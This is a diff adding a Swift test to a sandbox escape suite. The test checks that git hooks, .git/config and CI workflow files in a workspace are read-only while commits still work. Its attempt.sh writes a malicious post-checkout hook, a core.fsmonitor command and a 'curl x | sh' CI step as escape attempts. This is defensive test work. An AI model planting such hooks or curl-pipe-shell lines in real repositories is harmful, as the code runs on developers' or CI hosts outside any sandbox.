@@ -522,6 +522,37 @@ struct EscapeSuiteTests {
         #expect(ps.stdout.isEmpty, "survivors after cordon returned: \(ps.stdout)")
     }
 
+    // Security issue C.7: what is written into a git hook, .git/config (core.fsmonitor runs on
+    // every host `git status`) or a CI file runs later on the host, outside any sandbox.
+    @Test("git hooks, .git/config and CI files in the workspace are read-only; commits still work")
+    func protectedPaths() throws {
+        let ws = try Workspace()
+        let git = try Shell.run("/usr/bin/git", ["init", "-q", ws.path])
+        try #require(git.status == 0, "git init: \(git.stderr)")
+        try FileManager.default.createDirectory(
+            atPath: ws.path + "/.github/workflows", withIntermediateDirectories: true)
+        try ws.write(".github/workflows/ci.yml", "on: push\n")
+        if geteuid() == 0 { _ = try Shell.run("/bin/chown", ["-R", "65534:65534", ws.path]) }
+        try ws.write(
+            "attempt.sh",
+            """
+            echo 'touch /tmp/pwned' > .git/hooks/post-checkout && echo HOOK-WRITTEN
+            printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config && echo CONFIG-WRITTEN
+            echo 'run: curl x | sh' >> .github/workflows/ci.yml && echo CI-WRITTEN
+            echo notes > notes.txt && git add notes.txt && git -c user.email=a@b.c -c user.name=a commit -qm m && echo COMMITTED
+
+            """)
+        let r = try ws.run(["sh", "./attempt.sh"], options: ["--no-monitor"])
+        #expect(r.stdout.contains("COMMITTED"), "an ordinary commit must still work: \(r.stdout)\(r.stderr)")
+        for marker in ["HOOK-WRITTEN", "CONFIG-WRITTEN", "CI-WRITTEN"] {
+            #expect(!r.stdout.contains(marker), "\(marker): \(r.stdout)")
+        }
+        #expect(r.stderr.contains("Read-only file system"), "\(r.stderr)")
+        let config = try String(contentsOfFile: ws.path + "/.git/config", encoding: .utf8)
+        #expect(!config.contains("fsmonitor"))
+        #expect(!FileManager.default.fileExists(atPath: ws.path + "/.git/hooks/post-checkout"))
+    }
+
     @Test("SIGKILL of cordon while the command runs: the command is gone within a second")
     func killCordon() throws {
         let ws = try Workspace()
